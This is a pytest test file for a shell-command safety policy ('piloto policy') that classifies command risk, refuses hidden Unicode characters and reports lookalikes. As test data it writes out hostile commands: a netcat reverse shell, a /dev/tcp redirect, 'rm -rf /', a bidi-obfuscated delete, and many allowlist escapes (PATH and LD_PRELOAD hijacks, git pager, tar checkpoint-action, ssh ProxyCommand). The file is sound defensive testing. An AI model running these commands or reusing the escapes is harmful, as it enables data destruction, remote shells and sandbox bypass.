"""Risk reasons a person reads, cards that cannot lie, and the `piloto policy` commands."""

from __future__ import annotations

import pytest
from typer.testing import CliRunner

from piloto.cli import app
from piloto.policy import (
    CommandLimits,
    check_command,
    hidden_characters,
    lookalikes,
    parse_command,
    plan_effect,
    risk_reason,
)
from piloto.policy.texts import TEXTS


@pytest.mark.parametrize(
    ("cmd", "risk", "code", "words"),
    [
        ("kill -9 1234", "destructive", "kill", "kills processes (kill -9 1234)"),
        ("rm -rf ./build", "destructive", "delete", "deletes files (rm -rf ./build)"),
        ("python3 -c 'print(1)'", "destructive", "inline-code", "runs inline code (Python"),
        ("perl -e 'print 1'", "destructive", "inline-code", "(Perl"),
        ("cat /etc/os-release", "read", "read", "only reads or inspects (cat)"),
        ("systemctl stop sshd", "destructive", "service-stop", "stops or restarts services"),
        ("truncate -s 0 ./app.log", "destructive", "truncate", "empties files"),
        ("git push --force", "destructive", "history", "discards version-control history"),
        ("psql -c 'drop table users'", "destructive", "database", "changes a database"),
        ("mkdir -p ./x", "write", "write", "changes files or settings (mkdir -p ./x)"),
        ("frobnicate --now", "write", "unknown", "does not know"),
        ("echo hi > ./out.txt", "write", "redirect", "writes to a file (> ./out.txt)"),
        ("LD_PRELOAD=./x.so ls", "destructive", "preload", "LD_PRELOAD=./x.so"),
    ],
)
def test_the_risk_reason_says_what_the_command_does(
    cmd: str, risk: str, code: str, words: str
) -> None:
    decision = check_command(cmd)
    assert decision.allowed, decision.reason
    assert (decision.risk, decision.risk_code) == (risk, code)
    assert words in decision.risk_reason


def test_the_plan_risk_is_its_highest_step() -> None:
    effect = plan_effect(parse_command("df -h; mkdir -p ./x; kill 12; ls"))
    assert (effect.risk, effect.code) == ("destructive", "kill")


def test_every_code_has_english_and_spanish() -> None:
    for code, (english, spanish) in TEXTS.items():
        assert english and spanish and english != spanish, code
    assert risk_reason("kill", "es", "kill -9 1") == "mata procesos (kill -9 1)"
    assert risk_reason("kill", "en") == "kills processes"
    assert risk_reason("no-such-code", "en") == TEXTS["unknown"][0]


def test_a_blocked_command_carries_its_reason_as_the_risk_reason() -> None:
    decision = check_command("rm -rf /")
    assert decision.risk_code == "blocked"
    assert decision.risk_reason == "`rm -rf /` deletes the root filesystem"


# Cards that cannot lie


def test_the_bidi_card_from_issue_16_is_refused() -> None:
    cmd = 'echo "\u2067" ;rm -f ./precious.txt; echo "\u2066# \u2069\u2069"'
    decision = check_command(cmd)
    assert not decision.allowed
    assert decision.risk_code == "hidden-character"
    assert "U+2067 RIGHT-TO-LEFT ISOLATE at 7" in decision.reason


@pytest.mark.parametrize(
    "char",
    [
        *("\u202e", "\u202a", "\u200e", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060"),
        *("\ufeff", "\u00ad", "\x1b", "\r", "\x07", "\u2069", "\ufe0f", "\U000e0041", "\u3164"),
    ],
)
def test_every_hidden_character_is_refused_and_named(char: str) -> None:
    decision = check_command(f"ls{char} -la")
    assert not decision.allowed
    assert f"U+{ord(char):04X}" in decision.reason and "at 3" in decision.reason


def test_tabs_and_newlines_are_not_hidden() -> None:
    assert hidden_characters("ls\t-la\nuptime") == []
    assert check_command("ls\t-la\nuptime").allowed


def test_lookalikes_are_allowed_but_reported() -> None:
    decision = check_command("cat /\u0435tc/passwd")
    assert decision.allowed
    assert decision.lookalikes == ("\u0435 (U+0435 CYRILLIC SMALL LETTER IE) at 6",)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("/\u0435tc/passwd", "U+0435 CYRILLIC SMALL LETTER IE) at 2"),
        ("r\u03bf", "U+03BF GREEK SMALL LETTER OMICRON) at 2"),
        ("\uff52m -rf", "U+FF52 FULLWIDTH LATIN SMALL LETTER R) at 1"),
        ("ls\u00a0-la", "U+00A0 NO-BREAK SPACE) at 3"),
    ],
)
def test_lookalikes_helper(text: str, found: str) -> None:
    assert any(item.endswith(found) for item in lookalikes(text)), lookalikes(text)


def test_plain_non_ascii_text_is_not_a_lookalike() -> None:
    assert lookalikes("echo 'café ñandú 日本'") == []


# The command line


def test_policy_check_prints_the_risk_and_reason_on_one_line() -> None:
    result = CliRunner().invoke(app, ["policy", "check", "kill -9 1234"])
    assert result.exit_code == 0
    assert result.output == "allowed destructive: kills processes (kill -9 1234)\n"


def test_policy_check_blocks_with_exit_1() -> None:
    result = CliRunner().invoke(app, ["policy", "check", "rm -rf /"])
    assert result.exit_code == 1
    assert result.output.startswith("blocked: ")


def test_policy_check_takes_a_comma_separated_allowlist() -> None:
    runner = CliRunner()
    assert runner.invoke(app, ["policy", "check", "--allow", "ls,cat", "ls | cat"]).exit_code == 0
    refused = runner.invoke(app, ["policy", "check", "--allow", "ls,cat", "./ls"])
    assert refused.exit_code == 1 and "not the system's `ls`" in refused.output


def test_policy_explain_shows_each_simple_command() -> None:
    result = CliRunner().invoke(app, ["policy", "explain", "sudo bash -c 'ls | xargs rm -f'"])
    assert result.exit_code == 0
    assert "argv: ['xargs', 'rm', '-f']" in result.output
    assert "wrappers: sudo" in result.output
    assert "via: exec" in result.output
    assert "risk: destructive: deletes files (rm -f)" in result.output
    assert result.output.rstrip().endswith("allowed destructive: deletes files (rm -f)")


def test_allowlist_reason_names_the_escape() -> None:
    limits = CommandLimits(allowlist=frozenset({"ls"}))
    assert "PATH=" in check_command("PATH=/tmp/x:$PATH ls", limits).reason
    assert "chroot" in check_command("chroot /tmp/x ls", limits).reason
    assert "env -S" in check_command("env -S 'ls -la'", limits).reason
    assert (
        "copies"
        in check_command(
            "cp /bin/bash ./ls && ./ls -c id", CommandLimits(allowlist=frozenset({"ls", "cp"}))
        ).reason
    )


# The misclassifications issue 16 reports, each fixed.


@pytest.mark.parametrize(
    "cmd",
    [
        "rm -rf ./build",
        "rm -rf ./*",
        "kill -9 1234",
        "killall -9 sshd",
        "systemctl stop sshd",
        "truncate -s 0 ./app.log",
        "git push --force",
        'psql -c "drop table users"',
        "sed -n '1e rm -rf ./x' f",
        "LD_PRELOAD=./x.so ls",
        "LESSOPEN='|rm -rf ./x %s' less f",
        "perl -e 'print 1'",
        "ruby -e 'puts 1'",
        "node -e 'console.log(1)'",
        "php -r 'echo 1;'",
        "lua -e 'print(1)'",
        "echo 'puts 1' | tclsh",
        "git -c core.pager='sh -c id' log",
        "git -c alias.x='!id' x",
        "tar -cf /dev/null ./x --checkpoint=1 --checkpoint-action=exec=id",
        "vim -c ':!id' f",
        "ssh -o ProxyCommand='id' host",
        "rsync -e 'sh -c id' a b:",
        "at now <<< 'id'",
        "systemd-run id",
        "source <(cat ./x.sh)",
        "alias ll='rm -rf ./x'; ll",
        "f() { id; }; f",
        "echo hi > /dev/tcp/10.0.0.1/80",
    ],
)
def test_issue_16_commands_are_destructive_or_refused(cmd: str) -> None:
    decision = check_command(cmd)
    assert not decision.allowed or decision.risk == "destructive", decision


@pytest.mark.parametrize(
    "cmd",
    ["sort -o /etc/passwd /dev/null", "nc -e /bin/sh 10.0.0.1 4444", "rm -rf /"],
)
def test_issue_16_commands_that_are_refused(cmd: str) -> None:
    assert not check_command(cmd).allowed


@pytest.mark.parametrize(
    "cmd",
    [
        "./ls",
        "PATH=/tmp/evil:$PATH ls",
        "LD_PRELOAD=./x.so ls",
        "chroot /tmp/x ls",
        'cp /bin/bash ./ls && ./ls -c "id"',
    ],
)
def test_issue_16_allowlist_bypasses_are_refused(cmd: str) -> None:
    limits = CommandLimits(allowlist=frozenset({"ls", "cp", "chroot"}))
    decision = check_command(cmd, limits)
    assert not decision.allowed
    assert decision.risk_code == "allowlist"
